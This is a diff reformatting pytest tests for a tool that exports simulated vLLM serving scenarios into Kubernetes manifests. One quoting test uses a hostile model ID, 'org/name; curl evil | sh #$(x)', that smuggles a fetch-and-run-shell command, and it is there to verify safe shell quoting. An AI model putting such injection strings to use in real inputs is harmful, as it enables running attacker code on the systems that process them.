@@ -16,10 +16,21 @@ from simulator.scenario import Scenario
 
 
 def scenario(**deployment):
-    return Scenario.of({
-        "workload": {"source": "azure_conversation", "rate_rps": 1.0, "requests": 10},
-        "deployments": [{"name": "My chat", "model": "llama-3.1-8b", "gpu": "h100", "engine": {"max_model_len": 8192}, "replicas": 3, **deployment}],
-    })  # fmt: skip
+    return Scenario.of(
+        {
+            "workload": {"source": "azure_conversation", "rate_rps": 1.0, "requests": 10},
+            "deployments": [
+                {
+                    "name": "My chat",
+                    "model": "llama-3.1-8b",
+                    "gpu": "h100",
+                    "engine": {"max_model_len": 8192},
+                    "replicas": 3,
+                    **deployment,
+                }
+            ],
+        }
+    )
 
 
 def by_kind(made):
@@ -44,14 +55,8 @@ def test_a_deployment():
     pod = spec["template"]["spec"]
     container = pod["containers"][0]
     assert spec["replicas"] == 3 and made["Deployment"]["metadata"]["name"] == "my-chat"
-    assert container["image"] == "vllm/vllm-openai:v0.32.0" and container["args"][1:3] == [
-        "--max-model-len",
-        "8192",
-    ]
-    assert (
-        container["resources"]["limits"] == {"nvidia.com/gpu": "1"}
-        and pod["terminationGracePeriodSeconds"] == 90
-    )
+    assert container["image"] == "vllm/vllm-openai:v0.32.0" and container["args"][1:3] == ["--max-model-len", "8192"]
+    assert container["resources"]["limits"] == {"nvidia.com/gpu": "1"} and pod["terminationGracePeriodSeconds"] == 90
     assert start_s(resolve_deployment(s, 0)) == 120.0
     assert container["startupProbe"]["failureThreshold"] * PERIOD_S == MARGIN * 120
     phases = dict(chain(s.deployments[0].pod, 1e10))
@@ -65,9 +70,16 @@ def test_a_deployment():
 
 def test_hpa_as_simulated():
     hpa = {
-        "kind": "hpa", "min_replicas": 2, "max_replicas": 9, "tolerance": 0.05, "scale_down": {"stabilization_window_s": 120},
-        "metrics": [{"metric": "queue_depth", "target_average_value": 0.5}, {"metric": "token_rate", "external": True, "target_value": 5000}],
-    }  # fmt: skip
+        "kind": "hpa",
+        "min_replicas": 2,
+        "max_replicas": 9,
+        "tolerance": 0.05,
+        "scale_down": {"stabilization_window_s": 120},
+        "metrics": [
+            {"metric": "queue_depth", "target_average_value": 0.5},
+            {"metric": "token_rate", "external": True, "target_value": 5000},
+        ],
+    }
     made = by_kind(manifests(scenario(autoscaler=hpa)))
     spec = made["HorizontalPodAutoscaler"]["spec"]
     assert (spec["minReplicas"], spec["maxReplicas"]) == (2, 9)
@@ -91,9 +103,7 @@ def test_keda_as_simulated():
     }
     with pytest.raises(ServelabError, match="--prometheus"):
         manifests(scenario(autoscaler=keda))
-    spec = by_kind(manifests(scenario(autoscaler=keda), prometheus="http://prometheus:9090"))["ScaledObject"][
-        "spec"
-    ]
+    spec = by_kind(manifests(scenario(autoscaler=keda), prometheus="http://prometheus:9090"))["ScaledObject"]["spec"]
     assert (spec["minReplicaCount"], spec["maxReplicaCount"], spec["cooldownPeriod"]) == (1, 5, 200)
     assert spec["triggers"][0]["metadata"]["query"] == 'sum(vllm:num_requests_waiting{app="my-chat"})'
     with pytest.raises(ServelabError, match="'kpa' needs Knative"):
@@ -101,21 +111,15 @@ def test_keda_as_simulated():
 
 
 def test_a_pod_over_two_nodes_is_a_group():
-    s = scenario(
-        model="llama-3.1-405b", engine={"max_model_len": 8192, "tensor_parallel_size": 16}, replicas=2
-    )
+    s = scenario(model="llama-3.1-405b", engine={"max_model_len": 8192, "tensor_parallel_size": 16}, replicas=2)
     made = by_kind(manifests(s, model_id="meta-llama/Llama-3.1-405B"))
     group = made["LeaderWorkerSet"]["spec"]
     assert group["replicas"] == 2 and group["leaderWorkerTemplate"]["size"] == 2
     worker, leader = (
-        group["leaderWorkerTemplate"][k]["spec"]["containers"][0]
-        for k in ("workerTemplate", "leaderTemplate")
+        group["leaderWorkerTemplate"][k]["spec"]["containers"][0] for k in ("workerTemplate", "leaderTemplate")
     )
     assert worker["resources"]["limits"] == {"nvidia.com/gpu": "8"} and "readinessProbe" not in worker
-    assert (
-        "--tensor-parallel-size 16" in leader["args"][0]
-        and made["Service"]["spec"]["selector"]["role"] == "leader"
-    )
+    assert "--tensor-parallel-size 16" in leader["args"][0] and made["Service"]["spec"]["selector"]["role"] == "leader"
 
 
 def test_schemas_find_faults():
@@ -126,12 +130,7 @@ def test_schemas_find_faults():
         )
     )
     for kind, place, value, message in (
-        (
-            "Deployment",
-            ("spec", "template", "spec", "containers"),
-            "none",
-            r"Deployment 'my-chat': spec\.template",
-        ),
+        ("Deployment", ("spec", "template", "spec", "containers"), "none", r"Deployment 'my-chat': spec\.template"),
         ("Deployment", ("spec", "replica"), 3, "replica"),
         ("Service", ("spec", "ports"), [{"port": "http"}], "Service 'my-chat'"),
         ("ScaledObject", ("spec", "maxReplicas"), 3, "ScaledObject 'my-chat': spec: .*maxReplicas"),
@@ -149,9 +148,7 @@ def test_schemas_find_faults():
 def test_command(tmp_path):
     file = tmp_path / "s.yaml"
     file.write_text(scenario().to_yaml())
-    run = lambda *a: CliRunner().invoke(
-        app, ["export", "kubernetes", str(file), "--out", str(tmp_path / "k8s"), *a]
-    )
+    run = lambda *a: CliRunner().invoke(app, ["export", "kubernetes", str(file), "--out", str(tmp_path / "k8s"), *a])
     told = run()
     assert told.exit_code == 0 and "Deployment, Service, PodDisruptionBudget, valid" in told.output
     text = (tmp_path / "k8s/my-chat.yaml").read_text()
@@ -186,9 +183,7 @@ def group_of(model_id="org/name", **deployment):
 
 def test_what_the_shell_of_a_leader_gets_is_quoted():
     hostile = "org/name; curl evil | sh #$(x)"
-    _, command = group_of(
-        hostile, engine={"tensor_parallel_size": 16}, across_nodes=True, model="llama-3.1-405b"
-    )
+    _, command = group_of(hostile, engine={"tensor_parallel_size": 16}, across_nodes=True, model="llama-3.1-405b")
     words = shlex.split(command)
     assert words[:3] == ["vllm", "serve", hostile]
     assert words[words.index("--distributed-executor-backend") + 1] == "ray"
@@ -214,9 +209,7 @@ def test_ranks_over_two_nodes_are_spread_by_ray():
 
 def test_a_group_leaves_its_replicas_to_the_autoscaler():
     metrics = [{"metric": "queue_depth", "target_average_value": 4}]
-    spec, _ = group_of(
-        data_parallel_size=16, autoscaler={"kind": "hpa", "max_replicas": 3, "metrics": metrics}
-    )
+    spec, _ = group_of(data_parallel_size=16, autoscaler={"kind": "hpa", "max_replicas": 3, "metrics": metrics})
     assert "replicas" not in spec
     assert group_of(data_parallel_size=16)[0]["replicas"] == 3
 
